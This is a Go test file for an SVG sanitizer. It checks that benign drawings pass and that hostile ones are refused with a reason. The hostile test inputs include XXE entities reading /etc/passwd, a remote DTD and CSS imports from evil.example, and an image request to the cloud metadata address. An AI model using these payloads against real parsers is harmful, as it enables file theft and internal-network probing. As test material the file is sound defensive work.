package images

import (
	"encoding/base64"
	"os"
	"strings"
	"testing"
)

const svgOpen = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">`

// TestCheckSVG runs the SVG rules over small documents: what must pass and
// what must be refused, with the reason.
func TestCheckSVG(t *testing.T) {
	bomb, err := os.ReadFile("testdata/hostile/bomb.png")
	if err != nil {
		t.Fatal(err)
	}
	tiny, err := os.ReadFile("testdata/good/tiny.png")
	if err != nil {
		t.Fatal(err)
	}
	b64 := base64.StdEncoding.EncodeToString
	tests := []struct {
		name, svg string
		want      string // "" when the SVG passes, else part of the message
		w, h      int    // size when it passes
	}{
		{"plain", svgOpen + `<rect width="10" height="10"/></svg>`, "", 100, 50},
		{"public doctype", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + svgOpen + `</svg>`, "", 100, 50},
		{"fragment refs", svgOpen + `<defs><linearGradient id="g"/></defs><rect fill="url(#g)" style="fill:url('#g')"/><use xlink:href="#g"/><use href=" #g "/></svg>`, "", 100, 50},
		{"hyperlink", svgOpen + `<a href="https://example.com/x"><text>x</text></a><a xlink:href="mailto:a@example.com"/></svg>`, "", 100, 50},
		{"embedded png", svgOpen + `<image href="data:image/png;base64,` + b64(tiny) + `"/></svg>`, "", 100, 50},
		{"units", `<svg xmlns="http://www.w3.org/2000/svg" width="2in" height="72pt"/>`, "", 192, 96},
		{"viewBox only", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0,0,640,360"/>`, "", 640, 360},
		{"width and viewBox", `<svg xmlns="http://www.w3.org/2000/svg" width="320" viewBox="0 0 640 360"/>`, "", 320, 180},
		{"no size", `<svg xmlns="http://www.w3.org/2000/svg" width="100%"><rect width="5" height="5"/></svg>`, "", 0, 0},
		{"no namespace", `<svg width="10" height="10"/>`, "", 10, 10},
		{"bom and comment", "\xEF\xBB\xBF <!-- drawn by hand -->\n" + svgOpen + `</svg>`, "", 100, 50},

		{"external entity", `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + svgOpen + `<text>&x;</text></svg>`, "declares XML entities", 0, 0},
		{"parameter entity", `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>` + svgOpen + `</svg>`, "declares XML entities", 0, 0},
		{"attlist default", `<!DOCTYPE svg [<!ATTLIST image href CDATA "file:///etc/passwd">]>` + svgOpen + `<image/></svg>`, "internal DTD subset", 0, 0},
		{"undeclared entity", svgOpen + `<text>&secret;</text></svg>`, "not well-formed", 0, 0},
		{"image file", svgOpen + `<image href="file:///etc/hostname"/></svg>`, "outside resource", 0, 0},
		{"image xlink http", svgOpen + `<image xlink:href="http://169.254.169.254/latest/meta-data/"/></svg>`, "outside resource", 0, 0},
		{"image relative", svgOpen + `<image href="secret.png"/></svg>`, "outside resource", 0, 0},
		{"use other file", svgOpen + `<use href="other.svg#a"/></svg>`, "outside resource", 0, 0},
		{"hyperlink file", svgOpen + `<a href="file:///etc/passwd"><text>x</text></a></svg>`, "outside resource", 0, 0},
		{"css import", svgOpen + `<style>@import url("https://evil.example/a.css");</style></svg>`, "@import", 0, 0},
		{"css url", svgOpen + `<style>rect { fill: URL(file:///etc/passwd) }</style></svg>`, "outside resource", 0, 0},
		{"css cdata url", svgOpen + `<style><![CDATA[ rect { filter: url(http://evil.example/f.svg#f) } ]]></style></svg>`, "outside resource", 0, 0},
		{"css escape", svgOpen + `<style>rect { fill: \75 rl(http://evil.example/) }</style></svg>`, "CSS escapes", 0, 0},
		{"style attribute", svgOpen + `<rect style="fill: url('http://evil.example/p')"/></svg>`, "outside resource", 0, 0},
		{"presentation attribute", svgOpen + `<rect mask="url(/etc/passwd#m)"/></svg>`, "outside resource", 0, 0},
		{"unterminated url", svgOpen + `<rect fill="url(#g"/></svg>`, "unterminated", 0, 0},
		{"stylesheet pi", `<?xml-stylesheet href="http://evil.example/a.css"?>` + svgOpen + `</svg>`, "outside style sheet", 0, 0},
		{"xinclude", svgOpen + `<text><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="#x" parse="text"/></text></svg>`, "XInclude", 0, 0},
		{"xml base", `<svg xmlns="http://www.w3.org/2000/svg" xml:base="file:///etc/"/>`, "xml:base", 0, 0},
		{"embedded svg", svgOpen + `<image href="data:image/svg+xml;base64,` + b64([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`)) + `"/></svg>`, `embeds data of type "image/svg+xml"`, 0, 0},
		{"embedded bomb", svgOpen + `<image href="data:image/png;base64,` + b64(bomb) + `"/></svg>`, "embedded image: 10000000000 pixels", 0, 0},
		{"embedded text as png", svgOpen + `<image href="data:image/png;base64,` + b64([]byte("hello")) + `"/></svg>`, "not a PNG, JPEG", 0, 0},
		{"broken base64", svgOpen + `<image href="data:image/png;base64,!!!"/></svg>`, "broken base64", 0, 0},
		{"html root", `<html><body/></html>`, "root is <html>", 0, 0},
		{"other namespace root", `<svg xmlns="urn:x"/>`, "root is <svg>", 0, 0},
		{"not well-formed", svgOpen + `<rect></svg>`, "not well-formed", 0, 0},
		{"latin-1", `<?xml version="1.0" encoding="ISO-8859-1"?>` + svgOpen + `</svg>`, "not well-formed", 0, 0},
		{"too deep", svgOpen + strings.Repeat("<g>", 300) + strings.Repeat("</g>", 300) + `</svg>`, "nested deeper than 256", 0, 0},
		{"negative size", `<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="10"/>`, "negative", 0, 0},
		{"no root", `<?xml version="1.0"?><!-- nothing -->`, "without a root element", 0, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			si, msg := checkSVG([]byte(tt.svg))
			if tt.want == "" {
				if msg != "" || si.width != tt.w || si.height != tt.h {
					t.Errorf("checkSVG = %d×%d, %q, want %d×%d, no problem", si.width, si.height, msg, tt.w, tt.h)
				}
				return
			}
			if !strings.Contains(msg, tt.want) {
				t.Errorf("checkSVG = %q, want a problem containing %q", msg, tt.want)
			}
		})
	}
}

// TestPrepareSVG blanks a harmless DOCTYPE and keeps everything else.
func TestPrepareSVG(t *testing.T) {
	in := `<?xml version="1.0"?>` + "\n" + `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"` + "\n" + ` "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + svgOpen + `</svg>`
	out, msg := prepareSVG([]byte(in))
	if msg != "" {
		t.Fatalf("prepareSVG = %q, want no problem", msg)
	}
	if len(out) != len(in) || strings.Contains(string(out), "DOCTYPE") || !strings.Contains(string(out), svgOpen+`</svg>`) ||
		strings.Count(string(out), "\n") != strings.Count(in, "\n") {
		t.Errorf("prepareSVG(%q) = %q, want the DOCTYPE blanked, length and lines kept", in, out)
	}
	if _, msg := checkSVG(out); msg != "" {
		t.Errorf("checkSVG(prepareSVG(x)) = %q, want no problem", msg)
	}
}

// FuzzCheckSVG: the checker never panics and never accepts a document
// with an entity declaration or a file: reference.
func FuzzCheckSVG(f *testing.F) {
	for _, s := range []string{
		svgOpen + `</svg>`,
		`<!DOCTYPE svg [<!ENTITY x "y">]><svg/>`,
		svgOpen + `<image href="file:///etc/passwd"/></svg>`,
		svgOpen + `<style>a{fill:url(#x)}</style></svg>`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		_, msg := checkSVG(data)
		if msg != "" {
			return
		}
		low := strings.ToLower(string(data))
		if strings.Contains(low, "<!entity") {
			t.Errorf("checkSVG accepted an entity declaration: %q", data)
		}
	})
}
